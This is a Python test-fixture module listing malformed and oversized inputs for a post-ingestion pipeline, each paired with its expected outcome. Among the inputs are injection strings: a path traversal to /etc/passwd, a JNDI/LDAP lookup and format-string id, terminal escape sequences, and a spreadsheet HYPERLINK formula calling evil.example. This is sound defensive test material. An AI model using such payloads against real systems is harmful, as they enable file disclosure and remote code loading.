"""Posts that nobody should send, and what must become of each: on their topic, at every door, on other topics.

``ID`` in a value stands for an id of twelve characters that only this record of this run has.
"""

import json
from dataclasses import dataclass, replace
from typing import Any

JSON, RECORD, LINE, LARGE = "invalid_json", "invalid_record", "unreadable_line", "too_large"
"""Reasons of dead letters."""
PASSES, DROPPED = "passes", "dropped"
ID_CHARS = 12
LIMIT = 256 * 1024
BAD_NAME = "a header whose name is no UTF-8"


@dataclass(frozen=True)
class Poison:
    """``outcome`` on the topic that it is made for, ``door`` at a source and ``classify`` there, where they differ."""

    value: bytes | None
    outcome: str
    door: str = ""
    classify: str = ""
    key: bytes | None = b"key"
    headers: tuple[tuple[str, bytes], ...] = ()

    def filled(self, own_id: str) -> bytes | None:
        """The value with its id in it."""
        return None if self.value is None else self.value.replace(b"ID", own_id.encode())

    @property
    def at_door(self) -> str:
        """What becomes of it as a line of a file: published, or a dead letter's reason."""
        if self.door:
            return self.door
        return PASSES if self.outcome == DROPPED else self.outcome

    @property
    def at_classify(self) -> str:
        """The same as a line for ``plaint classify``, which takes lines of any size."""
        return self.classify or self.at_door

    @property
    def is_line(self) -> bool:
        """Whether it can be a line of a file."""
        return self.value is not None and b"\n" not in self.value and bool(self.value.strip())

    def elsewhere(self) -> "Poison":
        """The same where no post belongs."""
        return replace(self, outcome=self.outcome if self.outcome in (JSON, LARGE) else RECORD)


def post(text: str = "My router is dead, third time", **more: Any) -> bytes:
    """A post in JSON; arguments replace or add fields."""
    return json.dumps({"id": "ID", "text": text, **more}).encode()


def raw(fields: bytes) -> bytes:
    """A post with these fields, which need not be JSON."""
    return b'{"id":"ID","text":"My router is dead",' + fields + b"}"


def _sized(size: int) -> bytes:
    """A post of so many bytes once its id is in it."""
    return post("x" * (size - len(post("")) - ID_CHARS + len("ID")))


class _BadName(str):
    """A name that no client library sends, and the protocol takes."""

    def encode(self, encoding: str = "utf-8", errors: str = "strict") -> bytes:
        return b"\xff\xfe"


_UNJSON = {
    "no json": b"My parcel has not arrived, ID",
    "cut in the middle": post()[:-9],
    "cut in an escape": b'{"id":"ID","text":"\\u00',
    "single quotes": b"{'id':'ID','text':'Hello'}",
    "trailing comma": b'{"id":"ID","text":"Hello",}',
    "two objects": post() + post(),
    "UTF-16 without a BOM": post().decode().encode("utf-16-le"),
    "one byte": b"{",
    "a BOM": b"\xef\xbb\xbf" + post(),
    "a NUL in the text": b'{"id":"ID","text":"a\x00b"}',
    "a NUL for everything": b"\x00" * 64,
    "a raw tab": b'{"id":"ID","text":"a\tb"}',
    "an escaped lone surrogate": b'{"id":"ID","text":"\\ud83d"}',
    "escaped surrogates the wrong way round": b'{"id":"ID","text":"\\ude00\\ud83d"}',
    "an escape that is none": b'{"id":"ID","text":"\\x41"}',
    "nested too deep": raw(b'"x":' + b"[" * 20_000 + b"]" * 20_000),
    "nested too deep and never closed": raw(b'"x":' + b'{"a":' * 20_000),
    "an Infinity that is no JSON": raw(b'"engagement":{"likes":+Infinity}'),
}
_NOT_UTF8 = {
    "a surrogate in UTF-8": b'{"id":"ID","text":"\xed\xa0\x80"}',
    "Latin-1": b'{"id":"ID","text":"Gr\xf6\xdfe"}',
    "an overlong encoding": b'{"id":"ID","text":"\xc0\xaf"}',
    "half an emoji": b'{"id":"ID","text":"\xf0\x9f\x98"}',
    "UTF-16": post().decode().encode("utf-16"),
    "bytes of a picture": b"\x89PNG\r\x1a\xff\xd8" * 20,
}
_WRONG_TYPES = {
    "a list": b"[" + post() + b"]",
    "a string": b'"Hello ID"',
    "a number": b"17",
    "null as JSON": b"null",
    "true": b"true",
    "an empty object": b"{}",
    "an empty list": b"[]",
    "no id": b'{"text":"Hello"}',
    "an empty id": b'{"id":"","text":"Hello"}',
    "a null id": b'{"id":null,"text":"Hello"}',
    "a list as id": b'{"id":["ID"],"text":"Hello"}',
    "an id below 0": b'{"id":-1,"text":"Hello"}',
    "a fraction as id": b'{"id":1.2345678901234568e+18,"text":"Hello"}',
    "a number of 600 digits as id": b'{"id":' + b"9" * 600 + b',"text":"Hello"}',
    "an id of 513 characters": post(id="ID" + "x" * (513 - ID_CHARS)),
    "no text": b'{"id":"ID"}',
    "a null text": raw(b'"text":null'),
    "a number as text": raw(b'"text":5'),
    "a list as text": raw(b'"text":["Hello"]'),
    "an edit without text": b'{"id":"ID","event":"edit"}',
    "an event of another type": raw(b'"event":{"create":1}'),
    "an event that is null": raw(b'"event":null'),
    "a newer version": raw(b'"v":2'),
    "a version that is text": raw(b'"v":"one"'),
    "a revision below 0": raw(b'"revision":-1'),
    "a revision of 2**53+1": raw(b'"revision":9007199254740993'),
    "a revision of 2**63+1": raw(b'"revision":9223372036854775809'),
    "a revision of 1e400": raw(b'"revision":1e400'),
    "a revision of 3000 digits": raw(b'"revision":' + b"9" * 3000),
    "NaN": raw(b'"author":{"followers":NaN}'),
    "Infinity": raw(b'"author":{"followers":Infinity}'),
    "half a follower": raw(b'"author":{"followers":0.5}'),
    "an author that is text": raw(b'"author":"jo"'),
    "a handle that is a map": raw(b'"author":{"handle":{"a":1}}'),
    "a handle of a kilobyte": raw(b'"author":{"handle":"' + b"h" * 1024 + b'"}'),
    "likes below 0": raw(b'"engagement":{"likes":-1}'),
    "brands that are text": raw(b'"brands":"acme"'),
    "101 brands": raw(b'"brands":[' + b",".join([b'"b"'] * 101) + b"]"),
    "a brand that is null": raw(b'"brands":[null]'),
    "an address too long": raw(b'"url":"https://x.example/' + b"a" * 2048 + b'"'),
    "a conversation that is a list": raw(b'"conversation":[]'),
    "verified: perhaps": raw(b'"author":{"verified":"perhaps"}'),
    "the year 0": raw(b'"created_at":"0000-01-01T00:00:00Z"'),
    "the year 10000": raw(b'"created_at":"10000-01-01T00:00:00Z"'),
    "after the year 9999 in UTC": raw(b'"created_at":"9999-12-31T23:59:59-05:00"'),
    "before the year 1 in UTC": raw(b'"created_at":"0001-01-01T00:00:00+05:00"'),
    "the 30th of February": raw(b'"created_at":"2026-02-30T00:00:00Z"'),
    "25 o'clock": raw(b'"created_at":"2026-02-03T25:00:00Z"'),
    "a time of 1e308": raw(b'"received_at":1e308'),
    "a time of -2**63": raw(b'"received_at":-9223372036854775808'),
    "yesterday": raw(b'"created_at":"yesterday"'),
}
_SOUND = {
    "an escaped NUL": post("My router\x00 is dead"),
    "control characters": post("My \x1b[31mrouter\x07 is\r\ndead\x9b2J"),
    "right-to-left marks": post("\u202eMy router \u200fis dead\u2066\u202c"),
    "zero width and 500 accents": post("My rou\u200bter is\u200d dead e" + "\u0301" * 500),
    "noncharacters and private use": post("My router\uffff is dead \ue000\U0010ffff"),
    "an escaped pair": b'{"id":"ID","text":"My router is dead \\ud83d\\ude21"}',
    "line separators": '{"id":"ID","text":"My router\u2028is\u2029dead\u0085"}'.encode(),
    "unknown fields": raw(b'"mood":"bad","extra":{"deep":[1,{"a":null}]}'),
    "duplicate keys": b'{"id":"other","id":"ID","text":1,"text":"My router is dead"}',
    "an unknown field of 3000 digits": raw(b'"x":' + b"9" * 3000),
    "an unknown field of 1e400": raw(b'"x":1e400'),
    "nested 100 deep": raw(b'"x":' + b"[" * 100 + b"]" * 100),
    "the year 9999": raw(b'"created_at":"9999-12-31T23:59:59Z"'),
    "a time without zone": raw(b'"created_at":"2026-02-03T04:05:06"'),
    "a time as a number": raw(b'"created_at":1770000000'),
    "an id of 512 characters": post(id="ID" + "x" * (512 - ID_CHARS)),
    "an id of 500 emoji": post(id="ID" + "\U0001f621" * (512 - ID_CHARS)),
    "an id with control characters": post(id="ID\x00\r\n\x1b[2J\u202e"),
    "an id that is a path": post(id="ID/../../../etc/passwd"),
    "an id that is a template": post(id="ID{{7*7}}${jndi:ldap://x.example/a}%s%n"),
    "the largest count": raw(b'"author":{"followers":9007199254740992}'),
    "a delete of something unknown": b'{"id":"ID","event":"delete","revision":3}',
    "a delete with text": post(event="delete", revision=3),
    "an edit with no earlier create": post(event="edit", revision=3),
    "text without any words": post("???? !!!! 1234567890 " * 50),
    "200 KB of one word": post("x" * 200_000),
    "200 KB of emoji": b'{"id":"ID","text":"' + "\U0001f621".encode() * 50_000 + b'"}',
    "200 KB of mentions and links": post("@a https://b.example/" * 9_500),
}
_EMPTY = {
    "an empty text": post(""),
    "only white space": post(" \t\r\n\u00a0\u3000"),
    "only invisible characters": post("\u200b\u200e\u2060\ufeff\u3164\u2800"),
}
POSTS: dict[str, Poison] = {
    **{name: Poison(value, JSON) for name, value in _UNJSON.items()},
    **{name: Poison(value, JSON, door=LINE) for name, value in _NOT_UTF8.items()},
    **{name: Poison(value, RECORD) for name, value in _WRONG_TYPES.items()},
    **{name: Poison(value, PASSES) for name, value in _SOUND.items()},
    **{name: Poison(value, DROPPED) for name, value in _EMPTY.items()},
    "a number of 5000 digits as id": Poison(b'{"id":' + b"9" * 5000 + b',"text":"Hello"}', JSON),
    "an unknown event": Poison(raw(b'"event":"boost"'), DROPPED, door=RECORD),
    "a whole number as id": Poison(b'{"id":170000000001,"text":"Hello"}', RECORD, door=PASSES),
    "an empty value": Poison(b"", JSON),
    "no value at all": Poison(None, JSON),
    "as large as a record may be": Poison(_sized(LIMIT), PASSES, door=LARGE, classify=PASSES),
    "a byte larger than a record may be": Poison(_sized(LIMIT + 1), LARGE, classify=PASSES),
    "1 MB of text": Poison(post("x" * 1_000_000), LARGE, classify=PASSES),
    "1 MB of no JSON": Poison(b"\xff" * 1_000_000, LARGE),
    "an empty key": Poison(post(), PASSES, key=b""),
    "another post's key": Poison(post(), PASSES, key=b"first"),
    "a key that is no text": Poison(post(), PASSES, key=b"\xff\x00\r\n\x1b"),
    "a key of 300 KB": Poison(post(), PASSES, key=b"k" * 300_000),
    "a refused record with such a key": Poison(b"no json ID", JSON, key=b"\xff" * 300_000),
    "headers without name and with binary": Poison(
        post(), PASSES, headers=(("", b"\xff\x00"), ("h", b""), ("h", b"2"))
    ),
    "headers like a dead letter's": Poison(b"no json, ID", JSON, headers=(("plaint-reason", b"x"), ("plaint-at", b""))),
    "a header of 500 KB": Poison(post(), PASSES, headers=(("\U0001f621", b"h" * 500_000),)),
    "5000 headers": Poison(post(), PASSES, headers=(("h", b""),) * 5000),
    BAD_NAME: Poison(post(), PASSES, headers=((_BadName("h"), b""),)),
}
DEEP = {
    f"a number as id, nested {depth} deep": Poison(
        b'{"id":900000,"text":"Hello","x":%b}' % (b"[" * depth + b"]" * depth), outcome, classify=outcome
    )
    for depth, outcome in ((126, PASSES), (300, JSON))
}
"""What one JSON library reads and another does not write."""
ROWS: dict[str, tuple[bytes, str]] = {
    "sound": (b"ID,My router is dead,2026-03-01,5", PASSES),
    "a quote never closed": (b'ID,"My router is dead,2026-03-01,5', LINE),
    "a quote in the middle": (b'ID,"My router" is dead,2026-03-01,5', LINE),
    "too few cells": (b"ID,My router is dead", LINE),
    "too many cells": (b"ID,My router is dead,2026-03-01,5,6", LINE),
    "not UTF-8": (b"ID,Gr\xf6\xdfe,2026-03-01,5", LINE),
    "a NUL": (b"ID,My router\x00 is dead,2026-03-01,5", PASSES),
    "formula": (b'ID,"=HYPERLINK(""http://evil.example"")",,', PASSES),
    "two lines in a cell": (b'ID,"My router\r\nis dead",,', PASSES),
    "no text": (b"ID,,,", PASSES),
    "no id": (b",My router is dead ID,,", PASSES),
    "an id too long": (b"ID" + b"x" * 501 + b",My router is dead,,", RECORD),
    "a wrong date": (b"ID,My router is dead,2026-02-30,5", RECORD),
    "the year 0": (b"ID,My router is dead,0000-01-01T00:00:00Z,5", RECORD),
    "followers in words": (b"ID,My router is dead,,many", RECORD),
    "followers below 0": (b"ID,My router is dead,,-1", RECORD),
    "followers of 1e400": (b"ID,My router is dead,,1e400", RECORD),
    "a cell of 1 MB": (b"ID," + b"x" * 1_000_000 + b",,", LARGE),
    "a row of 256 KiB": (b"ID," + b"x" * (LIMIT - 20) + b",,", LARGE),
    "only commas": (b",,,", PASSES),
}
"""Rows of a table with the columns id, text, created_at and author.followers, and what becomes of each."""
BOMB = Poison(post("x" * 20_000_000), LARGE)
"""20 MB that a broker takes, since it counts what a compressed batch has."""
